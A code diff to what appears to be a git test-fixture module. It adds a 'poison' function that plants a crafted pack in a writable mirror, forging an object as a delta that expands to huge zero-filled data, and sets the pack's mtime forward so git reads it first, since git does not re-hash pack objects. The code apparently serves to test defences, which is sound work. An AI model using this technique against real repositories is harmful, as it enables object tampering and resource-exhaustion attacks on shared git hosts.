@@ -12,8 +12,10 @@ write these itself), served by real git (upload-pack over a path, or a dumb-HTTP
 from __future__ import annotations
 
 import hashlib
+import os
 import struct
 import subprocess
+import time
 import zlib
 from pathlib import Path
 
@@ -101,7 +103,7 @@ class _Pack:
         self.objects.append((sha, offset, zlib.crc32(raw)))
         return offset
 
-    def write(self, repo: Path) -> None:
+    def write(self, repo: Path) -> Path:
         pack = b"PACK" + struct.pack(">II", 2, len(self.objects)) + bytes(self.body)
         pack_sha = hashlib.sha1(pack).digest()  # noqa: S324
         pack += pack_sha
@@ -120,6 +122,7 @@ class _Pack:
         name = pack_sha.hex()
         (repo / "objects" / "pack" / f"pack-{name}.pack").write_bytes(pack)
         (repo / "objects" / "pack" / f"pack-{name}.idx").write_bytes(bytes(idx))
+        return repo / "objects" / "pack" / f"pack-{name}.pack"
 
 
 def _git(repo: Path, *args: str, stdin: bytes = b"") -> str:
@@ -215,3 +218,28 @@ def clash_tree(path: Path, kind: str) -> Path:
     _git(repo, "update-ref", "refs/heads/main", commit)
     subprocess.run(["chmod", "-R", "go+rX", str(repo)], check=True)
     return repo
+
+
+def poison(repo: Path, sha: str, kind: int, expands: int, copies: list[str]) -> None:
+    """Put a pack into `repo` (a mirror the attacker can write: the local provider's tenant owns its own) that
+    stores the object named `sha` as a delta expanding to `expands` bytes of zeros, of type `kind` (2 = tree). git
+    does not re-hash an object it reads from a pack by name: the youngest pack answers for it, and the objects
+    `copies` (copied in as they are: the commit and the trees above `sha`) keep this pack git's most recently used
+    one while it walks down to `sha`."""
+    pack = _Pack()
+    for name in copies:
+        kind_name = _git(repo, "cat-file", "-t", name)
+        raw = subprocess.run(["git", f"--git-dir={repo}", "cat-file", kind_name, name], capture_output=True,
+                             check=True).stdout
+        pack.add(bytes.fromhex(name), {"commit": 1, "tree": 2, "blob": 3}[kind_name], len(raw), raw)
+    base = pack.add(hashlib.sha1(b"poison base").digest(), kind, MIB, bytes(MIB))  # noqa: S324
+    delta = bytearray(_varint(MIB) + _varint(expands))
+    left = expands
+    while left:
+        step = min(left, MIB)
+        delta += _copy(0, step)
+        left -= step
+    pack.add(bytes.fromhex(sha), OFS_DELTA, len(delta), bytes(delta), base_offset=base)
+    written = pack.write(repo)
+    later = time.time() + 60  # git asks the youngest pack first (by mtime, in seconds)
+    os.utime(written, (later, later))
